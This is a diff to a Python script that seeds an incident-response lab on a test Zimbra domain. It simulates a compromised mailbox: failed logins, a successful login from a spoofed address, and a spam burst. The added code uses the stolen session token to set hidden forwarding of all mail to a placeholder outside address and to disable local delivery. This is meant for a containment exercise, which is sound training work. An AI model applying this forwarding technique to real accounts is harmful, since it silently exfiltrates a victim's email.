@@ -35,6 +35,9 @@ import urllib.request
 
 DOMAIN = "tartanga.test"
 CAPTURED = "ikasle3"
+# Outside address the attacker forwards the captured mailbox to (reserved .example domain:
+# nothing is ever sent there, the lab's relay is dead).
+ATTACKER_FORWARD = "kopia.ikasle3@posta-segurua.example"
 EXTERNAL_DOMAINS = ["gmail.com", "hotmail.com", "yahoo.es", "outlook.com", "euskaltel.net",
                     "telefonica.net", "live.com", "icloud.com", "gmx.de", "yandex.ru",
                     "mail.ru", "protonmail.com", "aol.com", "orange.fr", "libero.it"]
@@ -179,11 +182,16 @@ def send_session(login, password, messages, source=None, xclient=None):
 
 
 def soap_auth(url, cafile, account, password, forwarded_for):
+    return soap_user_call(url, cafile, forwarded_for, "",
+                          '<AuthRequest xmlns="urn:zimbraAccount"><account by="name">%s</account>'
+                          '<password>%s</password></AuthRequest>' % (account, password))
+
+
+def soap_user_call(url, cafile, forwarded_for, token, body):
     env = ('<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header>'
-           '<context xmlns="urn:zimbra"><userAgent name="ZimbraWebClient - FF120 (Win)"/>'
-           '</context></soap:Header><soap:Body><AuthRequest xmlns="urn:zimbraAccount">'
-           '<account by="name">%s</account><password>%s</password></AuthRequest>'
-           '</soap:Body></soap:Envelope>') % (account, password)
+           '<context xmlns="urn:zimbra"><userAgent name="ZimbraWebClient - FF120 (Win)"/>%s'
+           '</context></soap:Header><soap:Body>%s</soap:Body></soap:Envelope>') % (
+               ("<authToken>%s</authToken>" % token) if token else "", body)
     req = urllib.request.Request(url, data=env.encode("utf-8"), method="POST", headers={
         "Content-Type": "application/soap+xml; charset=utf-8",
         "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
@@ -285,6 +293,7 @@ def main():
     # ---- 2. failed logins, then a successful one, from the foreign address ------------------
     failed = []
     success_at = None
+    forwarding = []
     soap_url = labcfg["soap"]["user_url"]
     if not args.no_soap:
         cafile = labcfg["soap"]["cert"]
@@ -304,6 +313,19 @@ def main():
         if code != 200 or "authToken" not in text:
             raise SeedError("the right password for %s got HTTP %d: %s" % (captured["mail"], code,
                                                                           text[:300]))
+        # The attacker keeps a copy of everything: forwarding to an outside address, with no
+        # copy left in the mailbox (what the containment's forwarding step must find and undo).
+        token = re.search(r"<authToken>([^<]+)</authToken>", text).group(1)
+        code, text = soap_user_call(
+            soap_url, cafile, args.attacker_ip, token,
+            '<ModifyPrefsRequest xmlns="urn:zimbraAccount">'
+            '<pref name="zimbraPrefMailForwardingAddress">%s</pref>'
+            '<pref name="zimbraPrefMailLocalDeliveryDisabled">TRUE</pref>'
+            '</ModifyPrefsRequest>' % ATTACKER_FORWARD)
+        if code != 200:
+            raise SeedError("setting the attacker's forwarding on %s got HTTP %d: %s"
+                            % (captured["mail"], code, text[:300]))
+        forwarding = [ATTACKER_FORWARD]
 
     # ---- 3. the burst ----------------------------------------------------------------------
     burst_msgs = []
@@ -364,6 +386,7 @@ def main():
                   "recipients": sum(r["accepted"] for _, r in burst),
                   "per_minute": burst_minutes, "queue_ids": [r["qid"] for _, r in burst]},
         "failed_logins": failed,
+        "forwarding": forwarding,
         "normal": {"messages": sum(1 for x in sent if x[3] == "normal"),
                    "accounts": len({x[0] for x in sent if x[3] == "normal"})},
         "per_account": per_account,
